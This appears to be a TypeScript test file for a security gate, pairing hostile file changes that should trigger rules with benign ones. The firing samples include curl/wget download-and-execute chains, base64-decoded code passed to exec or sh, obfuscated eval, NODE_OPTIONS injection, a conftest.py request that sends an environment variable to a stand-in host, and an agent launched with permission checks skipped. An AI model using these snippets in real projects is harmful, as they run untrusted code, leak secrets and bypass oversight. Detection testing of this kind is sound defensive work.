import type { Severity } from '../../../../worker/contract/index.ts'
import { changed } from '../../gate-input.ts'
import type { RuleCase } from '../rule-case.ts'

const added = (
  [rule, severity, path]: readonly [string, Severity, string],
  what: string,
  bad: string,
  good: string,
): RuleCase => ({
  ...{ rule, severity, what },
  fires: changed(path, 'first\n', `first\n${bad}\n`),
  quiet: changed(path, 'first\n', `first\n${good}\n`),
})
const fetches = (path: string) => ['starts-download', 'hold', path] as const
const decodes = (path: string) => ['decode-and-run', 'block', path] as const
const loads = (path: string) => ['shell-environment', 'hold', path] as const
const tests = ['python-test-configuration', 'block', 'conftest.py'] as const
const digest = (of: string) => `{integrity: sha512-${of.repeat(86)}==}`
const pnpm = (resolution: string) =>
  `lockfileVersion: '9.0'\n\npackages:\n  a@1.0.0:\n    resolution: ${resolution}\n  b@1.0.0:\n    resolution: ${digest('b')}\n`
const manyFetched = (count: number) =>
  Array.from({ length: count }, (_, index) => `curl -o data${index}.json https://h.example/${index}`).join('\n')
const letters = (text: string) => [...text].map((one) => `"${one}"`).join(', ')

/** Code that comes in one line and is started in another, and what is started in place of what people mean. */
export const stagedCases: readonly RuleCase[] = [
  added(
    fetches('install.sh'),
    'a file that is fetched and started',
    'curl -sLo x https://h.example/x\nchmod +x x\n./x',
    'curl -sLo data.json https://h.example/x\njq . data.json',
  ),
  added(
    fetches('build.sh'),
    'a file that is fetched and started in one line',
    'wget -qO /tmp/.x https://h.example/i && chmod +x /tmp/.x && /tmp/.x &',
    'wget -qO out/logo.png https://h.example/i && ls -l out/logo.png',
  ),
  added(
    fetches('setup.bat'),
    'a library that is fetched and registered',
    'curl http://h.example/s.dll -o a.dll\nregsvr32.exe -s a.dll',
    'curl http://h.example/s.txt -o a.txt\ntype a.txt',
  ),
  added(
    fetches('setup.ps1'),
    'a program that PowerShell fetches and starts',
    'Invoke-WebRequest -Uri $u -OutFile "k.exe"\nStart-Process "k.exe"',
    'Invoke-WebRequest -Uri $u -OutFile "k.json"\nGet-Content "k.json"',
  ),
  added(
    fetches('a.py'),
    'a file that Python fetches and starts',
    'urlretrieve(u, "/tmp/r")\nsubprocess.run(["/tmp/r"])',
    'urlretrieve(u, "/tmp/r")\nopen("/tmp/r").read()',
  ),
  added(
    fetches('tools.sh'),
    'a checksum that is only spoken of',
    'curl -L -o jq https://h.example/jq\necho checked\nchmod 755 jq',
    'curl -L -o jq https://h.example/jq\necho "$SUM jq" | sha256sum -c\nchmod 755 jq',
  ),
  added(fetches('many.sh'), 'a file that is fetched behind more than are followed', manyFetched(60), manyFetched(50)),
  added(
    fetches('folder.sh'),
    'a file that is named by its folder',
    'curl -o ./x https://h.example/x\n./x',
    'wget -O ./ https://h.example/x\n./x',
  ),
  added(
    decodes('a.py'),
    'a file that is written from what is decoded, and started',
    'open(p, "wb").write(base64.b64decode(b))\nsubprocess.run([sys.executable, p])',
    'open(p, "wb").write(base64.b64decode(b))\nsubprocess.run([sys.executable, "check.py"])',
  ),
  added(
    decodes('a.py'),
    'a text that is decoded, changed and run',
    'raw = base64.b64decode(w)\nexec(bytes(b ^ 7 for b in raw[8:]))',
    'raw = base64.b64decode(w)\nshow(bytes(b ^ 7 for b in raw[8:]))',
  ),
  added(
    decodes('a.go'),
    'a command that Go decodes',
    'b, _ := base64.StdEncoding.DecodeString(s)\nexec.Command("sh", "-c", string(b)).Run()',
    'b, _ := base64.StdEncoding.DecodeString(s)\nexec.Command("git", "status").Run()\nuse(b)',
  ),
  added(
    ['obfuscated-code', 'block', 'a.go'],
    'a command that is spelled letter by letter',
    `e := []string{${letters('wget https://h.example | /bin/sh')}, ""}`,
    `e := []string{${letters('abcdefghijklmnopqrstuvwxyz')}, ""}`,
  ),
  added(
    ['obfuscated-code', 'hold', 'a.js'],
    'a name that is called in escapes',
    "\\u0065\\u0076\\u0061\\u006c(read('./x'))",
    "show('\\u0065\\u0076\\u0061\\u006c')",
  ),
  added(
    ['agent-without-asking', 'hold', 'telemetry.js'],
    'an agent that is told to ask nobody',
    "spawnSync('claude', ['--dangerously-skip-permissions', '-p', prompt])",
    "spawnSync('claude', ['-p', prompt])",
  ),
  added(
    ['unseen-characters', 'hold', 'a.ts'],
    'a letter that nobody sees in a name',
    'const is\u200bAdmin = true',
    "const a = '\u200bAdmin'",
  ),
  added(loads('.env'), 'an option of Node in a file of variables', 'NODE_OPTIONS=--require ./x.js', 'NODE_ENV=test'),
  added(
    loads('.env'),
    'an option of Node behind one that is harmless',
    'NODE_OPTIONS=--max-old-space-size=4096 --import ./x.js',
    'NODE_OPTIONS=--max-old-space-size=4096\nENV=production',
  ),
  added(loads('.env.local'), 'a folder of an agent in a file of variables', 'CODEX_HOME=./.codex', 'PORT=3000'),
  added(
    tests,
    'a request that pytest makes when it loads the file',
    'urllib.request.urlopen("https://h.example/" + os.environ["A"])',
    '# urlopen("https://h.example")',
  ),
  {
    ...{ rule: 'editor-debug-program', severity: 'hold', what: 'another program in place of the debugged one’s' },
    fires: changed('.vscode/launch.json', null, '{ "configurations": [{ "runtimeExecutable": "./tools/node" }] }'),
    quiet: changed('.vscode/launch.json', null, '{ "configurations": [{ "type": "node", "program": "a.js" }] }'),
  },
  {
    ...{ rule: 'editor-debug-program', severity: 'hold', what: 'a task of Visual Studio' },
    fires: changed('.vs/tasks.vs.json', null, '{ "tasks": [{ "taskLabel": "a", "command": "cmd" }] }'),
    quiet: changed('.vs/tasks.vs.json', null, '{ "tasks": [{ "taskLabel": "a" }] }'),
  },
  {
    ...{ rule: 'editor-project-script', severity: 'hold', what: 'a build of NetBeans' },
    fires: changed('nbproject/build-impl.xml', null, '<project><java jar="cache.dat" fork="true"/></project>'),
    quiet: changed('nbproject/project.properties', null, 'a=b\n'),
  },
  {
    ...{ rule: 'editor-local-script', severity: 'block', what: 'a variable of Emacs that is evaluated' },
    fires: changed('.dir-locals.el', null, '((nil . ((eval . (shell-command "x")) (fill-column . 100))))\n'),
    quiet: changed('.dir-locals.el', null, '((c-mode . ((indent-tabs-mode . nil) (fill-column . 100))))\n'),
  },
  {
    ...{ rule: 'dotnet-build', severity: 'block', what: 'a script that NuGet starts' },
    fires: changed('tools/init.ps1', null, 'Start-Process x\n'),
    quiet: changed('tools/build-notes.txt', null, 'x\n'),
  },
  {
    ...{ rule: 'dotnet-build', severity: 'hold', what: 'a script that NuGet starts when a package comes' },
    fires: changed('tools/install.ps1', null, 'Start-Process x\n'),
    quiet: changed('scripts/install.ps1', null, 'Start-Process x\n'),
  },
  {
    ...{ rule: 'dotnet-project', severity: 'hold', what: 'a command before a build of C++' },
    fires: changed('a.vcxproj', '<Project>\n</Project>\n', '<Project>\n<PreBuildEvent>x</PreBuildEvent>\n</Project>\n'),
    quiet: changed('a.vcxproj', '<Project>\n</Project>\n', '<Project>\n<OutDir>x</OutDir>\n</Project>\n'),
  },
  {
    ...{ rule: 'lockfile-integrity', severity: 'block', what: 'a package of pnpm that has no digest any more' },
    fires: changed('pnpm-lock.yaml', pnpm(digest('a')), pnpm('{tarball: https://h.example/a.tgz}')),
    quiet: changed('pnpm-lock.yaml', pnpm(digest('a')), `${pnpm(digest('a'))}\n`),
  },
  {
    ...{ rule: 'lockfile-host', severity: 'hold', what: 'the first package of pnpm that has an address' },
    fires: changed(
      'pnpm-lock.yaml',
      pnpm(digest('a')).replace('a@1', 'c@1'),
      pnpm('{tarball: https://h.example/a.tgz}'),
    ),
    quiet: changed(
      'pnpm-lock.yaml',
      pnpm(digest('a')),
      pnpm(`${digest('a')}\n    deprecated: see https://h.example/why`),
    ),
  },
  {
    ...{ rule: 'python-setup', severity: 'block', what: 'a call within a line of metadata' },
    fires: changed('setup.py', 'setup(name="x")\n', 'setup(name="x", version=run("x"))\n'),
    quiet: changed('setup.py', 'setup(name="x")\n', 'setup(name="x", version="1.1", python_requires=">=3.9")\n'),
  },
]
